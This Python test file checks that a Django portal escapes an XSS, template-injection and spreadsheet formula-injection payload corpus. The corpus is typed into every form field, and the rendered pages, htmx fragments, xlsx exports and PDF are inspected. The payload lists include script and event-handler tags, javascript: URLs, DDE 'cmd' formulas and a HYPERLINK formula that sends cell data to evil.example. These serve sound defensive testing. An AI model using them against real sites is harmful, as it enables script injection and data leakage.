"""#27 XSS: a payload corpus typed into every free-text field, through the real forms and views,
then every page rendered as every persona that can see it, plus the htmx fragments, the xlsx
exports and the Annex 1 PDF.

What is typed, and by whom (each POST goes through the view, so the form's validation applies; a
field that refuses a payload is counted as refused):
- city officer: campaign (notice texts), unit profile, channel, a reference label, a calendar note,
  a deadline extension;
- sysadmin: a new account (username and e-mail refuse, full name takes the payload);
- unit: every Annex 1 step of a new application (cover, lead person including the validated and
  choice fields, member and award rows, achievements, conditions, unit texts, report), file names
  of three uploads, the submit; a lead-change draft (previous lead, other reason); a withdrawal;
- channel: return reasons of every section, recommendation opinion, withdrawal of the
  recommendation, the opinion again; the other channel: a rejection reason;
- anonymous: a sign-in with a payload username (the page shows it again; the audit log keeps two
  characters of it);
- reflected: search, tab and row-count parameters of list pages and the htmx row fragment.
There is no edit view for a user's own name or for a studio, so two persona names and one studio
name are set through the ORM.

What is asserted, on every HTML page and fragment (parsed with lxml, as a browser would):
no <script> but the project's own /static/ files, no on* attribute, no hx-on*, no hx-*/data-hx-*
value carrying payload text, no javascript: URL, no iframe/object/embed/base element, no template
evaluation. The htmx configuration forbids eval and script tags in swapped content, and no hx-*
attribute of any template is built from a template variable other than a short allowlist.
Exports: no formula cell, no text cell starting with = + - @ (formula injection). PDF: the HTML
WeasyPrint lays out passes the same checks, the payloads come out as text, and the file has no
JavaScript or javascript: link. Every stored payload is found rendered as text somewhere, so the
checks are not vacuous.
"""

import io
import json
import re
from datetime import timedelta
from pathlib import Path
from urllib.parse import urlencode

import pikepdf
import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone

from portal.models import CalendarOverride, Campaign, Channel, ReferenceItem, TransitionLog, Unit, User
from reviews.models import Recommendation
from studios.enums import ApplicationStatus
from studios.models import Application, ApplicationAward, ApplicationMember, Attachment
from studios.sections import SECTIONS
from tests import policy
from tests.factories.studios import StudioFactory, lead_id, pdf_bytes
from tests.helpers import PERSONAS
from tests.policy.portal import campaign_data, channel_data, unit_data
from tests.security.crawl import Crawler, Page, page_strings, parse_html, pdf_text, xlsx_cells

pytestmark = pytest.mark.django_db

# Markup that runs if it reaches the page unescaped, in text context …
TAG = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "<svg onload=alert(1)>",
    "</textarea><script>alert(1)</script>",
    '<a href="javascript:alert(1)">x</a>',
    '<div hx-get="/xss-hx-get/" hx-trigger="load">x</div>',
    '<b hx-on:click="alert(1)" data-hx-post="/xss-data-hx/">x</b>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
]
# … in an attribute value (an input's value, a title) …
ATTR = ["' onmouseover='alert(1)' x='", '" autofocus onfocus="alert(1)" x="']
# … as a URL, a template, after normalisation or decoding …
TEXT = [
    "javascript:alert(1)",
    "{{7*7}}",
    '{{"xss"|add:"ssti"}}',  # a template evaluation of user text would print xssssti
    "＜script＞alert(1)＜／script＞",  # full-width: an NFKC step before output would make it a tag
    "&lt;script&gt;alert(1)&lt;/script&gt;",  # pre-escaped: must not be decoded into a tag
]
# … and in a spreadsheet cell (formula / CSV injection).
FORMULA = [
    '=HYPERLINK("http://evil.example/?x="&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
PAYLOADS = TAG + ATTR + TEXT + FORMULA
# For fields too short for the above.
SHORT_TAG = ["<b onclick=1>", "<svg/onload=1>", "'\"><b>"]
SHORT_FORMULA = ["=1+1", "+1+1", "-1+1", "@A1"]
# Text that appears only if a payload became markup or code.
EXECUTED_MARKERS = ("xss-hx-get", "xss-data-hx", "alert(", "javascript:", "onerror", "onload", "calc")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
HTML_URL_ATTRS = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "background", "srcset"}
FORBIDDEN_TAGS = {"iframe", "frame", "frameset", "object", "embed", "base", "applet"}


class Corpus:
    """Hands out payload values per field and remembers what was sent and how to read it back."""

    def __init__(self):
        self.turn = 0
        self.sent: dict[str, tuple[str, object]] = {}  # label → (value, reader)
        self.refused: dict[str, tuple[str, object]] = {}

    def value(self, max_length: int | None = None, *, formula: bool = False) -> str:
        """Payloads for one field: the whole corpus for long texts; for a short field, as many as
        fit, always starting with markup (or, for exported fields, a formula and then markup),
        each field at a different offset of each list."""
        self.turn += 1
        k = self.turn

        def rot(items):
            return items[k % len(items):] + items[:k % len(items)]

        if max_length is None or max_length >= 1000:
            first = rot(FORMULA)[:1] if formula else []
            return "\n".join(first + [p for p in rot(PAYLOADS) if p not in first])
        order = rot(FORMULA if max_length >= 120 else SHORT_FORMULA)[:1] if formula else []
        order += [rot(TAG)[0], rot(ATTR)[0], rot(TEXT)[0], *rot(TAG), *rot(SHORT_TAG), *rot(TEXT), *rot(FORMULA)]
        picked: list[str] = []
        for payload in order:
            if payload not in picked and len(" ".join([*picked, payload])) <= max_length:
                picked.append(payload)
        # Nothing fits (a 6-character postcode): send a short tag anyway, validation must refuse it.
        return " ".join(picked) or SHORT_TAG[k % len(SHORT_TAG)]

    def expect(self, label: str, value: str, reader) -> str:
        self.sent[label] = (value, reader)
        return value

    def expect_refused(self, label: str, value: str, reader) -> str:
        self.refused[label] = (value, reader)
        return value

    def outcome(self) -> tuple[dict[str, str], list[str], list[str]]:
        """(accepted label → stored value, refused labels, problems)."""
        accepted, refused, problems = {}, [], []
        for label, (value, reader) in self.sent.items():
            stored = reader()
            if isinstance(stored, str) and stored.strip() == value.strip():
                accepted[label] = stored.strip()
            else:
                problems.append(f"{label}: not stored (got {stored!r:.80})")
        for label, (value, reader) in self.refused.items():
            stored = reader()  # the stored value, or every stored value (a list) of a column
            if (value in stored) if isinstance(stored, list) else (stored == value):
                problems.append(f"{label}: expected validation to refuse the payload, it was stored")
            else:
                refused.append(label)
        return accepted, refused, problems


def findings(tree, where: str) -> list[str]:
    """Payload-made markup in one parsed page (empty when everything stayed text)."""
    found = []
    for el in tree.iter():
        if not isinstance(el.tag, str):
            continue
        tag = el.tag.lower()
        if tag in FORBIDDEN_TAGS:
            found.append(f"{where}: <{tag}> element")
        if tag == "script":
            src = el.get("src") or ""
            if not src.startswith(settings.STATIC_URL) or (el.text or "").strip():
                found.append(f"{where}: <script src={src!r}> {(el.text or '')[:40]!r}")
        if tag == "meta" and (el.get("http-equiv") or "").lower() == "refresh":
            found.append(f"{where}: meta refresh")
        for name, value in el.attrib.items():
            lname = name.lower()
            if lname.startswith("on"):
                found.append(f"{where}: <{tag} {name}=…>")
            if lname.startswith(("hx-on", "data-hx-on")):
                found.append(f"{where}: <{tag} {name}=…> (htmx inline handler)")
            if lname.startswith(("hx-", "data-hx-")) and any(m in value for m in EXECUTED_MARKERS):
                found.append(f"{where}: <{tag} {name}={value[:60]!r}> carries payload text")
            if lname == "srcdoc":
                found.append(f"{where}: <{tag} srcdoc>")
            if lname in HTML_URL_ATTRS and re.sub(r"[\s\x00-\x1f]", "", value).lower().startswith(
                    ("javascript:", "vbscript:", "data:text/html")):
                found.append(f"{where}: <{tag} {name}={value[:40]!r}>")
    if "xssssti" in "\x00".join(page_strings(tree)):
        found.append(f"{where}: template expression evaluated")
    return found


def htmx_config(tree) -> dict:
    metas = [m for m in tree.iter("meta") if m.get("name") == "htmx-config"]
    assert len(metas) == 1, "the base template must configure htmx"
    return json.loads(metas[0].get("content"))


def hx_template_expressions() -> list[tuple[str, str]]:
    """(template, expression) for every {{ … }} inside an hx-* attribute of a project template."""
    roots = [Path(settings.BASE_DIR) / "templates", *Path(settings.BASE_DIR).glob("*/templates")]
    found = []
    for root in roots:
        for path in root.rglob("*.html"):
            text = path.read_text(encoding="utf-8")
            for match in re.finditer(r"\b(?:data-)?hx-[\w:.-]+=(\"[^\"]*\"|'[^']*')", text):
                found += [(str(path.relative_to(settings.BASE_DIR)), expr.strip())
                          for expr in re.findall(r"\{\{(.*?)\}\}", match.group(1))]
    return found


# Template variables allowed inside hx-* attributes: none is user-typed text.
HX_ALLOWED_EXPRESSIONS = {
    "csrf_token",  # the CSRF token (hx-headers on <body>)
    "card.slot",  # an EvidenceSlot value (enum code)
    "url",  # pi_field: reverse() of portal:reveal with a model label, a pk and a registered field name
}


def step_url(app, key: str) -> str:
    return reverse("studios:application-step", kwargs={"pk": app.pk, "step": key})


def log(app, action: str) -> TransitionLog:
    return TransitionLog.objects.filter(object_id=app.pk, action=action).latest("id")


def lock(app) -> int:
    return Application.objects.get(pk=app.pk).lock_version


class Seeder:
    """Posts through the views as personas and keeps every response page for the checks."""

    def __init__(self, crawler: Crawler, corpus: Corpus):
        self.crawler, self.corpus = crawler, corpus
        self.pages: list[Page] = []

    def post(self, persona: str, path: str, data: dict, *, expect: tuple = (200, 302), htmx: bool = False):
        headers = {"HX-Request": "true"} if htmx else {}
        response = self.crawler.client(persona).post(path, data, headers=headers)
        assert response.status_code in expect, f"POST {path} as {persona}: {response.status_code}"
        if response.get("Content-Type", "").startswith("text/html") and response.content.strip():
            self.pages.append(Page(persona, f"POST {path}", 200, response["Content-Type"],
                                   response.content.decode()))
        return response


def seed_city_and_accounts(world, s: Seeder, c: Corpus) -> None:
    campaign = Campaign.objects.get(pk=world.campaign.pk)
    phone = c.expect_refused("Campaign.contact_phone", c.value(30),
                             lambda: Campaign.objects.get(pk=campaign.pk).contact_phone)
    s.post("city_officer", reverse("portal:campaign-update", args=[campaign.pk]),
           campaign_data(campaign, contact_phone=phone), expect=(200,))
    texts = {name: c.value(Campaign._meta.get_field(name).max_length)
             for name in ("title", "doc_number", "summary", "contact_person", "contact_address")}
    for name, value in texts.items():
        c.expect(f"Campaign.{name}", value, lambda n=name: getattr(Campaign.objects.get(pk=campaign.pk), n))
    s.post("city_officer", reverse("portal:campaign-update", args=[campaign.pk]),
           campaign_data(campaign, **texts), expect=(302,))

    unit = Unit.objects.get(pk=world.unit_a.pk)
    refused = {"uscc": c.value(18), "postcode": c.value(6), "contact_phone": c.value(30), "email": c.value(60)}
    for name, value in refused.items():
        c.expect_refused(f"Unit.{name}", value, lambda n=name: getattr(Unit.objects.get(pk=unit.pk), n))
    s.post("city_officer", reverse("portal:unit-update", args=[unit.pk]), unit_data(unit, **refused), expect=(200,))
    texts = {"name": c.value(100, formula=True), "address": c.value(200, formula=True),
             "contact_name": c.value(50, formula=True)}
    for name, value in texts.items():
        c.expect(f"Unit.{name}", value, lambda n=name: getattr(Unit.objects.get(pk=unit.pk), n))
    s.post("city_officer", reverse("portal:unit-update", args=[unit.pk]), unit_data(unit, **texts), expect=(302,))

    jingkou = Channel.objects.get(pk=world.jingkou.pk)
    texts = {"name": c.value(50, formula=True), "authority": c.value(100)}
    for name, value in texts.items():
        c.expect(f"Channel.{name}", value, lambda n=name: getattr(Channel.objects.get(pk=jingkou.pk), n))
    s.post("city_officer", reverse("portal:channel-update", args=[jingkou.pk]), channel_data(jingkou, **texts),
           expect=(302,))

    item = ReferenceItem.objects.get(kind="skill_level", code="1")  # the level every test case carries
    texts = {"label": c.value(100, formula=True), "short_label": c.value(100), "description": c.value()}
    for name, value in texts.items():
        c.expect(f"ReferenceItem.{name}", value, lambda n=name: getattr(ReferenceItem.objects.get(pk=item.pk), n))
    s.post("city_officer", reverse("portal:reference-update", args=[item.pk]),
           {**texts, "sort_order": item.sort_order, "is_active": "on"}, expect=(302,))

    note = c.expect("CalendarOverride.note", c.value(100),
                    lambda: CalendarOverride.objects.get(date="2026-10-09").note)
    s.post("city_officer", reverse("portal:calendar"), {"date": "2026-10-09", "is_workday": "", "note": note},
           expect=(302,))

    refused = {"username": c.value(150), "email": c.value(60)}
    for name, value in refused.items():
        c.expect_refused(f"User.{name}", value, lambda n=name: list(User.objects.values_list(n, flat=True)))
    s.post("sysadmin", reverse("portal:account-create"), {**refused, "full_name": "x"}, expect=(200,))
    full_name = c.expect("User.full_name", c.value(50, formula=True),
                         lambda: User.objects.get(username="xss_account").full_name)
    s.post("sysadmin", reverse("portal:account-create"),
           {"username": "xss_account", "full_name": full_name, "email": "xss@example.cn"}, expect=(200,))
    # No edit view for one's own name: the unit and channel personas get payload names directly.
    for persona in ("unit", "channel"):
        User.objects.filter(pk=world.users[persona].pk).update(full_name=c.value(50, formula=True))

    # Reflected input: the sign-in page shows the typed username again (the audit log keeps only
    # its first two characters, portal.signals.mask_attempted_username).
    s.post("anonymous", reverse("login"), {"username": c.value(150), "password": "wrong-password-1A"},
           expect=(200,))


def fill_application(app, s: Seeder, c: Corpus, *, valid_id: str) -> None:
    """Every step of Annex 1 with payloads, as the unit."""
    label = f"Application#{app.pk}"

    def reader(name):
        return lambda: getattr(Application.objects.get(pk=app.pk), name)

    cover = {name: c.expect(f"{label}.{name}", c.value(100, formula=True), reader(name))
             for name in ("studio_name", "work_field")}
    s.post("unit", step_url(app, "cover"), {"lock_version": lock(app), **cover}, expect=(302,))

    lengths = {"lead_name": 50, "lead_employer": 100, "studio_location": 200, "lead_occupation": 100,
               "lead_admin_post": 100, "lead_address": 200}
    texts = {name: c.expect(f"{label}.{name}", c.value(n, formula=name in ("lead_name", "lead_occupation")),
                            reader(name)) for name, n in lengths.items()}
    valid = {"lead_gender": "M", "lead_ethnicity": "01", "lead_political_status": "01", "lead_education": "31",
             "lead_skill_level": "1", "lead_phone": "13805290168", "lead_id_number": valid_id,
             "lead_postcode": "212001", "office_area": "180", "lead_work_start": "1996-07-01"}
    refused = {name: c.expect_refused(f"{label}.{name}", c.value(30), reader(name)) for name in valid}
    s.post("unit", step_url(app, "lead"), {"lock_version": lock(app), **texts, **refused}, expect=(200,))
    # The same through the htmx autosave: the fragment lists the refused fields.
    s.post("unit", reverse("studios:application-autosave", args=[app.pk, "lead"]),
           {"lock_version": lock(app), **texts, **refused}, expect=(200,), htmx=True)
    s.post("unit", step_url(app, "lead"), {"lock_version": lock(app), **texts, **valid}, expect=(302,))

    rows = {"members-TOTAL_FORMS": "2", "members-INITIAL_FORMS": "0", "members-MIN_NUM_FORMS": "0",
            "members-MAX_NUM_FORMS": "1000"}
    for i in range(2):
        rows[f"members-{i}-id"] = ""
        rows[f"members-{i}-age"] = "35"
        for name, n in (("name", 50), ("qualification", 50), ("achievements", None)):
            rows[f"members-{i}-{name}"] = c.expect(
                f"{label}.member{i}.{name}", c.value(n),
                lambda i=i, name=name: getattr(ApplicationMember.objects.filter(application=app)[i], name))
    s.post("unit", step_url(app, "members"), {"lock_version": lock(app), **rows}, expect=(302,))
    ids = list(ApplicationMember.objects.filter(application=app).values_list("id", flat=True))
    bad_age = {**rows, "members-0-id": ids[0], "members-1-id": ids[1], "members-TOTAL_FORMS": "3",
               "members-2-id": "", "members-2-name": "x",
               "members-2-age": c.expect_refused(f"{label}.member.age", c.value(10),
                                                 lambda: list(app.members.values_list("age", flat=True)))}
    s.post("unit", step_url(app, "members"), {"lock_version": lock(app), **bad_age}, expect=(200,))
    s.post("unit", reverse("studios:application-autosave", args=[app.pk, "members"]),
           {"lock_version": lock(app), **bad_age}, expect=(200,), htmx=True)

    awards = {"awards-TOTAL_FORMS": "2", "awards-INITIAL_FORMS": "0", "awards-MIN_NUM_FORMS": "0",
              "awards-MAX_NUM_FORMS": "1000"}
    for i in range(2):
        awards[f"awards-{i}-id"] = ""
        awards[f"awards-{i}-year"] = "2019"
        for name, n in (("project", 100), ("award_name", 100), ("issuer", 100), ("level", 30), ("rank", 20)):
            awards[f"awards-{i}-{name}"] = c.expect(
                f"{label}.award{i}.{name}", c.value(n),
                lambda i=i, name=name: getattr(ApplicationAward.objects.filter(application=app)[i], name))
    achievements = c.expect(f"{label}.lead_achievements", c.value(), reader("lead_achievements"))
    c.expect_refused(f"{label}.lead_honours", PAYLOADS[1], lambda: Application.objects.get(pk=app.pk).lead_honours)
    s.post("unit", step_url(app, "achievements"),
           {"lock_version": lock(app), "lead_achievements": achievements, "lead_honours": [PAYLOADS[1]],
            "awards-TOTAL_FORMS": "0", "awards-INITIAL_FORMS": "0"}, expect=(200,))
    s.post("unit", step_url(app, "achievements"),
           {"lock_version": lock(app), "lead_achievements": achievements, "lead_honours": ["08"], **awards},
           expect=(302,))

    codes = list(ReferenceItem.objects.filter(kind="application_condition", is_active=True)
                 .values_list("code", flat=True))
    claims = {}
    for code in codes:
        claims[f"claim_{code}"] = "on"
        claims[f"claim_{code}_text"] = c.expect(
            f"{label}.condition_{code}", c.value(),
            lambda code=code: Application.objects.get(pk=app.pk).condition_claims.get(code))
    s.post("unit", step_url(app, "conditions"), {"lock_version": lock(app), **claims}, expect=(302,))

    for step, names in (("unit", ("unit_introduction", "unit_support", "work_plan")),
                        ("report", ("report_basic_conditions", "report_necessity", "report_unit_support",
                                    "report_work_plan"))):
        texts = {name: c.expect(f"{label}.{name}", c.value(), reader(name)) for name in names}
        s.post("unit", step_url(app, step), {"lock_version": lock(app), **texts}, expect=(302,))

    # File names (the multipart parser keeps the last path component, so no "/" in these).
    upload = reverse("studios:attachment-upload", args=[app.pk])
    names = ['"><img src=x onerror=alert(1)>.pdf', "<svg onload=alert(1) x=.pdf",
             "=HYPERLINK(1)'onmouseover='alert(1).pdf"]
    for n, (slot, name) in enumerate(zip(("honour", "other", "publication"), names, strict=True)):
        c.expect(f"{label}.attachment{n}.original_name", name,
                 lambda slot=slot: Attachment.objects.get(application=app, slot=slot).original_name)
        s.post("unit", upload, {"slot": slot, "file": SimpleUploadedFile(name, pdf_bytes())},
               expect=(200, 302), htmx=n % 2 == 0)


def seed_applications(world, s: Seeder, c: Corpus) -> dict:
    unit_a = world.unit_a
    s.post("unit", reverse("studios:application-create"), {"kind": "new"}, expect=(302,))
    app = Application.objects.filter(unit=unit_a).latest("id")
    fill_application(app, s, c, valid_id=lead_id(9001))
    submit_data = policy.load().routes["studios:application-submit"].data
    submit_data = submit_data(world) if callable(submit_data) else (submit_data or {})
    s.post("unit", reverse("studios:application-submit", args=[app.pk]), submit_data, expect=(302,))
    assert Application.objects.get(pk=app.pk).status == ApplicationStatus.SUBMITTED

    until = (timezone.localtime() + timedelta(days=30)).strftime("%Y-%m-%dT%H:%M")
    reason = c.expect("Application.extension_reason", c.value(200),
                      lambda: Application.objects.get(pk=app.pk).extension_reason)
    s.post("city_officer", reverse("studios:application-extend", args=[app.pk]), {"until": until, "reason": reason},
           expect=(302,))

    # The channel returns every section with a payload reason; the unit edits and submits again.
    reasons = {f"return-{key}": c.expect(f"TransitionLog.return.{key}", c.value(),
                                         lambda key=key: log(app, "return").data["sections"][key])
               for key, _label, _f in SECTIONS}
    s.post("channel", reverse("reviews:application-return", args=[app.pk]), reasons, expect=(302,))
    assert Application.objects.get(pk=app.pk).status == ApplicationStatus.RETURNED
    location = c.expect(f"Application#{app.pk}.studio_location", c.value(200),
                        lambda: Application.objects.get(pk=app.pk).studio_location)
    current = Application.objects.get(pk=app.pk)
    work_field = c.expect(f"Application#{app.pk}.work_field", c.value(100, formula=True),
                          lambda: Application.objects.get(pk=app.pk).work_field)
    s.post("unit", step_url(app, "cover"), {"lock_version": lock(app), "studio_name": current.studio_name,
                                            "work_field": work_field}, expect=(302,))
    lead = {name: getattr(current, name) for name in (
        "lead_name", "lead_gender", "lead_ethnicity", "lead_political_status", "lead_employer", "lead_phone",
        "lead_education", "lead_occupation", "lead_admin_post", "lead_skill_level", "lead_id_number",
        "lead_address", "lead_postcode")}
    lead.update(studio_location=location, office_area="180", lead_work_start="1996-07-01")
    s.post("unit", step_url(app, "lead"), {"lock_version": lock(app), **lead}, expect=(302,))
    s.post("unit", reverse("studios:application-submit", args=[app.pk]), submit_data, expect=(302,))
    assert Application.objects.get(pk=app.pk).version == 2

    recommend = reverse("reviews:application-recommend", args=[app.pk])
    s.post("channel", recommend, {"recommend-rank": "99", "recommend-opinion": c.value()}, expect=(400, 409))
    c.expect("TransitionLog.unrecommend.reason", c.value(), lambda: log(app, "unrecommend").reason)
    for action, data in (
        ("recommend", {"recommend-rank": "1", "recommend-opinion": c.value(formula=True)}),
        ("unrecommend", {"unrecommend-reason": c.sent["TransitionLog.unrecommend.reason"][0]}),
        ("recommend", {"recommend-rank": "1", "recommend-opinion": c.value(formula=True)}),
    ):
        s.post("channel", reverse(f"reviews:application-{action}", args=[app.pk]), data, expect=(302,))
    opinion = data["recommend-opinion"]
    c.expect("Recommendation.opinion", opinion, lambda: Recommendation.objects.get(application=app).opinion)
    assert Application.objects.get(pk=app.pk).status == ApplicationStatus.RECOMMENDED

    other = world.other_application
    reject = c.expect("TransitionLog.reject.reason", c.value(), lambda: log(other, "reject").reason)
    s.post("other_channel", reverse("reviews:application-reject", args=[other.pk]), {"reject-reason": reject},
           expect=(302,))
    assert Application.objects.get(pk=other.pk).status == ApplicationStatus.CHANNEL_REJECTED

    # A lead-change draft: previous lead and the "other" reason.
    studio = StudioFactory(unit=unit_a, name=c.value(100), lead_name=c.value(50))
    s.post("unit", reverse("studios:application-create"), {"kind": "lead_change", "studio": studio.pk},
           expect=(302,))
    change = Application.objects.filter(unit=unit_a).latest("id")
    assert change.kind == "lead_change"
    texts = {"previous_lead": c.value(100), "change_reason_other": c.value(200)}
    for name, value in texts.items():
        c.expect(f"Application#{change.pk}.{name}", value,
                 lambda n=name: getattr(Application.objects.get(pk=change.pk), n))
    s.post("unit", step_url(change, "lead"), {"lock_version": lock(change), "change_reason": "other", **texts},
           expect=(302,))

    # A withdrawn draft with a payload reason.
    s.post("unit", reverse("studios:application-create"), {"kind": "new"}, expect=(302,))
    withdrawn = Application.objects.filter(unit=unit_a).latest("id")
    reason = c.expect("TransitionLog.withdraw.reason", c.value(500), lambda: log(withdrawn, "withdraw").reason)
    s.post("unit", reverse("studios:application-withdraw", args=[withdrawn.pk]), {"reason": reason}, expect=(302,))
    assert Application.objects.get(pk=withdrawn.pk).status == ApplicationStatus.WITHDRAWN
    return {"app": app, "change": change, "withdrawn": withdrawn}


def reflected_paths(corpus: Corpus) -> dict[str, list[str]]:
    q = corpus.value(100)
    return {
        "city_officer": [f"/units/?{urlencode({'q': q})}", f"/reference/?{urlencode({'kind': q})}",
                         f"/reviews/?{urlencode({'tab': q})}"],
        "auditor": [f"/audit/?{urlencode({'q': q})}", f"/units/?{urlencode({'q': q})}"],
        "channel": [f"/reviews/?{urlencode({'tab': q})}"],
        "unit": [f"/studios/applications/{{pk}}/rows/members/new/?{urlencode({'members-TOTAL_FORMS': q})}"],
    }


def test_payload_corpus_never_executes(world, settings, tmp_path, monkeypatch):
    settings.MEDIA_ROOT = str(tmp_path)
    crawler = Crawler(world)
    corpus = Corpus()
    seeder = Seeder(crawler, corpus)
    seed_city_and_accounts(world, seeder, corpus)
    cases = seed_applications(world, seeder, corpus)
    app, change, withdrawn = cases["app"], cases["change"], cases["withdrawn"]

    extra = {persona: [] for persona in PERSONAS}
    for persona, paths in reflected_paths(corpus).items():
        extra[persona] += [p.replace("{pk}", str(change.pk)) for p in paths]
    for persona in ("unit", "channel", "city_officer", "city_approver", "auditor"):
        extra[persona] += [reverse("studios:application-detail", args=[pk]) for pk in (app.pk, withdrawn.pk)]
    extra["channel"].append(reverse("reviews:application-review", args=[app.pk]))
    extra["other_channel"].append(reverse("reviews:application-review", args=[world.other_application.pk]))
    extra["unit"] += [step_url(change, key) for key in ("cover", "lead", "members", "review")]

    pages = list(seeder.pages)
    files: dict[str, set[str]] = {}
    for persona in PERSONAS:
        result = crawler.crawl(persona, extra[persona])
        pages += [p for p in result.pages if p.is_html]
        files[persona] = result.files

    problems, rendered = [], []
    config_checked = False
    for page in pages:
        tree = parse_html(page.text)
        problems += findings(tree, f"{page.persona} {page.path}")
        rendered += page_strings(tree)
        if not config_checked and page.text.lstrip().startswith("<!DOCTYPE"):
            config = htmx_config(tree)
            assert config.get("allowEval") is False and config.get("allowScriptTags") is False, config
            assert config.get("selfRequestsOnly", True) is True, config
            config_checked = True
    assert config_checked
    unexpected = sorted({expr for _t, expr in hx_template_expressions()} - HX_ALLOWED_EXPRESSIONS)
    assert unexpected == [], f"hx-* attribute built from template data: {unexpected}"

    # Exports: no formula cell, no text cell a spreadsheet would read as a formula.
    export_cells = exports = 0
    escaped = 0
    for persona in ("city_officer", "channel"):
        for path in sorted(p for p in files[persona] if "/export/" in p):
            response = crawler.client(persona).get(path)
            assert response.status_code == 200 and response["Content-Type"] == XLSX, path
            exports += 1
            for cell in xlsx_cells(response.content):
                export_cells += 1
                if cell.data_type == "f":
                    problems.append(f"{persona} {path}: formula cell {cell.coordinate} {cell.value!r:.60}")
                elif isinstance(cell.value, str):
                    if cell.value.startswith(FORMULA_START):
                        problems.append(f"{persona} {path}: {cell.coordinate} starts with {cell.value[:1]!r}")
                    escaped += cell.value.startswith("'") and cell.value[1:2] in "=+-@"
    assert exports >= 3 and escaped > 0

    # The Annex 1 PDF: the HTML WeasyPrint lays out passes the same checks, the payloads are printed
    # as text, and the file holds no JavaScript or javascript: link.
    import weasyprint

    sources = []
    real_html = weasyprint.HTML

    def spy(*args, **kwargs):
        sources.append(kwargs.get("string", ""))
        return real_html(*args, **kwargs)

    monkeypatch.setattr(weasyprint, "HTML", spy)
    pdf = crawler.client("unit").get(reverse("studios:application-pdf", args=[app.pk]))
    assert pdf.status_code == 200 and len(sources) == 1
    problems += findings(parse_html(sources[0]), "Annex 1 PDF source")
    flat = re.sub(r"\s+", "", pdf_text(pdf.content))
    missing = [p for p in PAYLOADS if re.sub(r"\s+", "", p) not in flat]
    assert missing == [], f"payloads not printed as text in the PDF: {missing}"
    with pikepdf.open(io.BytesIO(pdf.content)) as document:
        for obj in document.objects:
            if isinstance(obj, pikepdf.Dictionary):
                if obj.get("/S") in (pikepdf.Name.JavaScript, pikepdf.Name.Launch) or "/JS" in obj:
                    problems.append(f"PDF: {obj.get('/S')} action")
                uri = str(obj.get("/URI", ""))
                if uri.lower().replace(" ", "").startswith("javascript:"):
                    problems.append(f"PDF: javascript: link {uri[:40]}")

    accepted, refused, storage_problems = corpus.outcome()
    assert storage_problems == [], "\n".join(storage_problems)
    corpus_text = "\x00".join(rendered)
    unseen = [label for label, value in accepted.items() if value.splitlines()[0].strip() not in corpus_text]
    assert unseen == [], f"stored payloads never rendered (the crawl missed their pages): {unseen}"
    assert problems == [], "\n".join(problems)
    print(f"FIGURE #27: 0 executed payloads over {len(pages)} pages × {len(accepted)} fields "
          f"({len(PAYLOADS)} payloads; {len(refused)} fields refused them by validation; "
          f"{exports} xlsx exports, {export_cells} cells, 0 formula cells; Annex 1 PDF text-only; "
          f"htmx allowEval/allowScriptTags off, hx-* never built from user data)")


def all_subclasses(cls) -> set[type]:
    found = set(cls.__subclasses__())
    return found.union(*(all_subclasses(sub) for sub in found)) if found else found


def test_every_export_resource_writes_formula_safe_cells():
    """A new export resource must derive from FormulaSafeResource (the crawl above only sees the
    exports that exist today)."""
    import importlib

    from import_export.resources import Resource

    from portal.resources import FormulaSafeResource, formula_safe

    for app in ("portal", "studios", "reviews"):
        try:
            importlib.import_module(f"{app}.resources")
        except ModuleNotFoundError:
            continue
    ours = {cls for cls in all_subclasses(Resource) if cls.__module__.split(".")[0] in ("portal", "studios", "reviews")}
    assert ours - {FormulaSafeResource}, "no export resource found"
    assert [cls.__name__ for cls in ours if not issubclass(cls, FormulaSafeResource)] == []
    assert [formula_safe(v) for v in ("=1+1", "+1", "-1", "@A1", "\tx", "镇江", 3, None)] == [
        "'=1+1", "'+1", "'-1", "'@A1", "'\tx", "镇江", 3, None]
